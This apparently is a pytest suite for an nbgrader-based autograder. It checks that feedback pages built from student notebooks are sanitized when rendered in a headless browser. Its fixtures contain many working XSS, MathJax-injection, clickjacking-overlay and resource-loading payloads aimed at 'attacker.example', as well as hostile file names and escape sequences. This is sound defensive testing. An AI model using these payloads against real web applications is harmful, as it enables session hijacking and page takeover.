"""Feedback pages in a real browser: nothing that a student wrote runs there, and no request leaves the page for it."""

import contextlib
import json
import os
import re
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from io import StringIO
from pathlib import Path

import jupyter_server_mathjax
import nbformat
import nbgrader
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader import handlers
from rich.console import Console

from autograder.config import Course, load_course
from autograder.feedback.write import write_feedback
from autograder.nbgrader_settings import nbgrader_settings
from autograder.report.terminal import grade_and_show
from coursekit.submit.pdf import find_browser

PLACE = "attacker.example"
SET_TITLE = "document.title='taken over'"
JAVASCRIPT = f"javascript:{SET_TITLE}"
FORMULAS = [  # that make links, styles, rules or spaces of any size, by every way of writing one
    rf"\href{{{JAVASCRIPT}}}{{x}}",
    rf"\mmlToken{{mi}}[href='{JAVASCRIPT}' style='position:fixed;top:0;left:0;font-size:900px']{{x}}",
    r"\style{position:fixed;top:0;left:0;width:100%;height:100%;background:red}{x}",
    rf"\def\x{{\hre}}\newcommand{{\go}}{{\href{{{JAVASCRIPT}}}{{x}}}}\go",
    r"\cssId{toc}{\class{panel-heading navbar-fixed-top}{x}}",
    r"\require{html}\bbox[position:fixed;padding:900px,red]{x}\unicode[serif]{65}",
    r"\color{red}{\rule{900em}{900em}}\llap{\rule{900em}{900em}}\kern-900em\raise400em{\rule{90em}{90em}}",
    r"\begin{array}{c}a\\[-400em]\rule{90em}{90em}\end{array}\hspace{-400em}\Large x",
    r"\begin{align}a\\  * [-400em] b\end{align}" + r"\!" * 900 + "x",
    rf"\toggle{{x}}{{y}}\endtoggle\texttip{{x}}{{{SET_TITLE}}}\let\a=\href \a{{{JAVASCRIPT}}}{{x}}",
    "x^{" * 60 + "x" + "}" * 60,
]
SOLVED = r"\frac{1}{n} \sum_i \log D(x_i) + \mathbb{E}_{z \sim \mathcal{N}(0, I)} [\log(1 - D(G(z)))]"
COVER = """
<a class="navbar navbar-fixed-top btn-block modal in" href="https://attacker.example/a" id="toc"
 style="position:fixed;opacity:0">x</a><div class="modal-backdrop in"></div><a href="/formgrader/x">a</a>
<a href="//attacker.example">b</a><a href="?x=1">c</a><a href="javascript&colon;alert(1)">d</a>
<a href=" &#1;javascript:x">e</a><a href="data:text/html,x">f</a>
<a href="vbscript:x" target="_top" download ping="/x">g</a><a href="https:x">h</a>
<a href="#top">i</a><a href="ftp://x">j</a><a href="\thttp://x">k</a><img src="/formgrader">
<img src="data:image/svg+xml;base64,AA">
<map name="m"><area href="/y" shape="default"></map><img usemap="#m" src="data:image/png;base64,aGFsbG8=" width=9999>
<button autofocus formaction="/z">l</button><form id=f action="/q"></form><input form=f type=image><marquee>m</marquee>
<font size=900 color=red>n</font><bdo dir=rtl>o</bdo><svg><a xlink:href="/v"><text>p</text></a></svg><link rel=prefetch>
<math href="/w"><mtext href="/w">q</mtext></math><dialog open>r</dialog><template><a href="/t">s</a></template>
</div></div></div></details></td></table></body><!-- <![CDATA[ --><p>\u202eafter\u2066<a href="https://attacker.example/b">t
"""
EVIL = f"""
<script>{SET_TITLE}</script><script src="http://{PLACE}/s.js"></script>
<img src="x" onerror="{SET_TITLE}"><img src="http://{PLACE}/pixel.png"><svg onload="{SET_TITLE}"></svg>
<iframe src="http://{PLACE}/frame" srcdoc="<script>parent.{SET_TITLE}</script>"></iframe>
<style>@import url("http://{PLACE}/style.css"); body {{ background: url(http://{PLACE}/background.png) }}</style>
<link rel="stylesheet" href="http://{PLACE}/link.css"><object data="http://{PLACE}/object"></object>
<video autoplay src="http://{PLACE}/video"></video><base href="http://{PLACE}/"><details open ontoggle="{SET_TITLE}">
<meta http-equiv="refresh" content="0; url=http://{PLACE}/moved"><input autofocus onfocus="{SET_TITLE}">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SET_TITLE}&gt;">
"""
TYPESET = "\n\n".join(f"${formula}$ $${formula}$$" for formula in FORMULAS)
MARKDOWN = f"""{EVIL}

{COVER}

{TYPESET}

\\begin{{equation}}\\href{{{JAVASCRIPT}}}{{x}}\\end{{equation}} $\\hre<wbr>f{{{JAVASCRIPT}}}{{x}}$ $${SOLVED}$$

[i]: /formgrader/there
[by reference][i] ![gone](attachment:gone.png) <https://attacker.example/shown> {"w" * 5000}

![picture](http://{PLACE}/markdown.png) [link](javascript:{SET_TITLE}) <javascript:{SET_TITLE}>

$$\\href{{javascript:{SET_TITLE}}}{{x}}$$ `` `<script>{SET_TITLE}</script>` ``
"""
CODE = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
evil = {EVIL!r}
for kind in (HTML, Markdown, Latex):
    display(kind(evil))
    display(kind({COVER!r}))
    display(kind({TYPESET!r}))
display(Latex({f"$${SOLVED}$$"!r}))
print({TYPESET!r}, "\\x1b[31mred\\x1b[2J\\x1b]0;{SET_TITLE}\\x07", "w" * 9999)
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{SET_TITLE}\\"><script>{SET_TITLE}</script></svg>"))
display(Javascript("{SET_TITLE}"))
many = {{"text/html": evil, "application/javascript": "{SET_TITLE}", "image/png": "\\"><script>{SET_TITLE}</script>"}}
display(many, raw=True)
print(evil)
raise ValueError("\\x1b]8;;javascript:{SET_TITLE}\\x07" + evil)
"""

OUTPUTS = [  # as they may stand in the file that is handed in
    *(nbformat.v4.new_output("display_data", {kind: EVIL + COVER}) for kind in ("text/html", "text/markdown")),
    nbformat.v4.new_output("display_data", {"text/html": COVER}),
    nbformat.v4.new_output("display_data", {"text/latex": TYPESET}),
    nbformat.v4.new_output("display_data", {"image/png": f'"><script>{SET_TITLE}</script>', "image/svg+xml": EVIL}),
    nbformat.v4.new_output("stream", text=f"\x1b[31m\u202e{TYPESET}{EVIL}{'w' * 9999}"),
    nbformat.v4.new_output("error", ename=EVIL, evalue=COVER, traceback=[EVIL]),
]

QUOTED = f"""
def configure_optimizers(model, lr):
    raise ValueError(({FORMULAS[0]!r} + " $" + {FORMULAS[2]!r} + "$ \\u202e <b>bold</b>" + {COVER!r}))
"""


@dataclass
class Proxy:
    """Every request of a browser arrives here, and is refused."""

    port: int
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def proxy() -> Iterator[Proxy]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        made = Proxy(server.getsockname()[1])

        def answer() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    connection.settimeout(1)  # browsers open connections before they need them
                    with connection, contextlib.suppress(OSError):
                        made.asked.append(connection.recv(4096).split(b"\r\n")[0].decode(errors="replace"))
                        connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        thread = threading.Thread(target=answer)
        thread.start()
        yield made
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def show(page: Path, proxy: Proxy, profile: Path) -> str:
    """The page's document after its scripts had five seconds of the browser's time."""
    browser = find_browser()
    assert browser, "these tests need Chromium or Chrome: make setup"
    command = [browser, "--headless", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--dump-dom"]
    command += [f"--user-data-dir={profile}", "--virtual-time-budget=5000", f"--proxy-server=127.0.0.1:{proxy.port}"]
    command += ["--proxy-bypass-list=<-loopback>", *(["--no-sandbox"] if os.geteuid() == 0 else []), page.as_uri()]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout


def test_a_page_that_is_not_cleaned_would_be_taken_over(proxy: Proxy, tmp_path: Path) -> None:
    """So that the next test can fail."""
    page = tmp_path / "page.html"
    stays = EVIL.replace("http-equiv", "name")  # else the browser would show where it was moved to
    page.write_text(f"<html><head><title>feedback</title></head><body>{stays}</body></html>")
    shown = show(page, proxy, tmp_path / "profile")
    assert "<title>taken over</title>" in shown
    assert any(PLACE in request for request in proxy.asked)


# Where MathJax lies on this machine, without the part that keeps formulas from making links.
MATHJAX = Path(jupyter_server_mathjax.__file__).parent / "static" / "MathJax.js"
# For each score of the page, whether a click on it meets something else than the page's own heading.
LOOK = """<script>
const look = () => {
  const scores = [...document.querySelectorAll("#toc li, .panel-heading .pull-right, .number, .said")];
  const covered = scores.filter((score) => {
    score.scrollIntoView({ block: "center" });
    const box = score.getBoundingClientRect();
    const met = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return !score.contains(met);
  });
  document.body.setAttribute("data-looked", `${scores.length} scores, ${covered.length} covered`);
};
addEventListener("load", () => setTimeout(() => window.MathJax ? MathJax.Hub.Queue(look) : look(), 1000));
</script>"""


@pytest.fixture(scope="module")
def feedback(
    copy_course: Callable[[Path], Course],
    filled: Callable[[dict[str, str]], bytes],
    tmp_path_factory: pytest.TempPathFactory,
) -> Path:
    """The feedback page of a submission that puts everything of the above wherever it can."""
    course = copy_course(tmp_path_factory.mktemp("pages") / "course")
    notebook = nbformat.reads(
        filled({"configure_optimizers": QUOTED, "loss_functions": CODE, "answer_what_you_did": MARKDOWN}).decode(),
        as_version=4,
    )
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(MARKDOWN))
    notebook.cells.append(nbformat.v4.new_code_cell(CODE, outputs=OUTPUTS))
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in ("training", "samples"):
            cell.outputs = OUTPUTS
    notebook.metadata["title"] = f"</title><script>{SET_TITLE}</script>"
    folder = course.root / "submitted" / "mallory" / "hw2"
    folder.mkdir(parents=True)
    (folder / "hw2.ipynb").write_text(json.dumps(notebook))
    (folder / f"<script>{SET_TITLE}<").write_text("")
    (folder / f"[x](javascript:{SET_TITLE.replace('/', '')}) $x$ \u202e.ipynb").write_text("")
    printed = StringIO()
    rows = grade_and_show(course, "hw2", Console(file=printed))
    assert [row.status for row in rows] == ["graded"]
    assert not set(printed.getvalue()) & set("\x1b\u202e")
    (page,) = write_feedback(course, "hw2").pages.values()
    return page


def test_no_script_of_a_submission_runs_on_its_feedback_page_and_nothing_is_fetched(
    proxy: Proxy, feedback: Path, tmp_path: Path
) -> None:
    assert "taken over" in feedback.read_text()  # what was written is shown, as text
    shown = show(feedback, proxy, tmp_path / "profile")
    assert "<title>taken over</title>" not in shown and "feedback for mallory</title>" in shown
    assert not [request for request in proxy.asked if PLACE in request]


def test_nothing_of_a_submission_covers_its_points_or_leads_anywhere_but_to_the_web_outside(
    proxy: Proxy, feedback: Path, tmp_path: Path
) -> None:
    page = tmp_path / "page.html"
    page.write_text(without_policy(feedback) + LOOK)
    shown = show(page, proxy, tmp_path / "profile")
    document = BeautifulSoup(shown, "html.parser")
    assert document.find("mfrac") and not document.find("script", src=True)  # harmless formulas are typeset
    looked = re.search(r'data-looked="(\d+) scores, (\d+) covered"', shown)
    assert looked and int(looked[1]) > 10 and looked[2] == "0"
    links = [str(link["href"]) for link in document.find_all(href=True)]
    own = {f"#{section['id']}" for section in document.find_all("section", id=True)}
    assert {link for link in links if not link.startswith("https://")} <= own
    assert any(link.startswith("https://attacker.example/b") for link in links)  # what leads outside stays
    inside = document.select(".text *, .code *, figure *")
    assert len(inside) > 100
    for tag in inside:
        ours = tag.name in ("div", "summary", "details", "img", "figcaption")
        assert not {"id", "name", "target", "title", "style"} & set(tag.attrs), tag
        assert ours or "class" not in tag.attrs, tag
    assert "\u202e" not in shown


def without_policy(page: Path) -> str:
    """So that the tests can put a script of their own into the page; nothing may hang on the policy alone."""
    text, replaced = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text())
    assert replaced == 1
    return text


def test_the_case_of_the_page_without_cleaning_is_covered(proxy: Proxy, tmp_path: Path) -> None:
    """So that the test before can fail: the classes of the page's own style sheet are enough to cover its points."""
    bootstrap = Path(nbgrader.__file__).parent / "server_extensions/formgrader/static/node_modules/bootstrap/dist/css"
    style = (bootstrap / "bootstrap.min.css").read_text()
    page = tmp_path / "page.html"
    rows = "<li>Score: 1</li>" * 20
    page.write_text(
        f"<!DOCTYPE html><style>{style}</style><script>MathJax = {{Hub: {{Queue: (f) => f()}}}}</script><body>"
        f"<div id=toc><ol>{rows}</ol></div><a class='modal in' style='' href='https://{PLACE}'></a>"
        "<style>.modal { display: block }</style>" + LOOK + "</body>"
    )
    shown = show(page, proxy, tmp_path / "profile")
    assert 'data-looked="20 scores, 20 covered"' in shown


def test_the_formgrader_shows_the_same_clean_notebook(proxy: Proxy, feedback: Path, tmp_path: Path) -> None:
    """Here a link within the site would be followed by somebody who is logged in. MathJax is as it is by itself: how it
    is configured or where it comes from must not matter."""
    root = feedback.parents[3]
    config = nbgrader_settings(load_course(root))
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "hw2", "notebook_id": "hw2", "submission_id": "x", "index": 0, "total": 1}
    resources |= {"base_url": "", "student": "mallory", "last_name": "", "first_name": "", "notebook_path": "x"}
    notebook = root / "autograded" / "mallory" / "hw2" / "hw2.ipynb"
    text, _ = HTMLExporter(config=config).from_filename(str(notebook), resources=resources)
    assert "contain: paint" in text
    content = BeautifulSoup(text, "html.parser").select(".rendered_html *, .output_subarea *")
    links = {str(tag["href"]) for tag in content if tag.get("href")}
    assert links and all(link.startswith("https://") for link in links)
    assert not [tag for tag in content if {"id", "name", "target"} & set(tag.attrs)]

    mathjax = f'src="{MATHJAX.as_uri()}?config=TeX-AMS-MML_HTMLorMML-full"'
    local, replaced = re.subn(r'src="/static/[^"]*MathJax[^"]*"', mathjax, text)
    assert replaced == 1
    page = tmp_path / "local.html"
    page.write_text(local + LOOK)
    shown = show(page, proxy, tmp_path / "profile")
    document = BeautifulSoup(shown, "html.parser")
    assert document.find(class_="MathJax")  # harmless formulas are typeset
    looked = re.search(r'data-looked="(\d+) scores, (\d+) covered"', shown)
    assert looked and looked.groups() == ("10", "0")  # nine cells with points, and the number of the submission
    for tag in document.select(".rendered_html *, .output_subarea *"):
        ours = [tag, *tag.parents]
        if any("MathJax" in str(each.get("id", "")) + str(each.get("class", "")) for each in ours):
            continue
        assert not {"id", "name", "target", "title"} & set(tag.attrs), tag
        assert "position" not in str(tag.get("style", "")) and (
            tag.name in ("ul", "li", "span") or not tag.get("style")
        ), tag
    assert "\u202e" not in shown


def test_nbgraders_own_command_writes_the_same_page_to_the_same_place(feedback: Path) -> None:
    before = feedback.read_text()
    feedback.unlink()
    config = nbgrader_settings(load_course(feedback.parents[3]), "hw2")
    command = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    command.force = True
    command.start()
    assert feedback.read_text().strip() == before.strip()
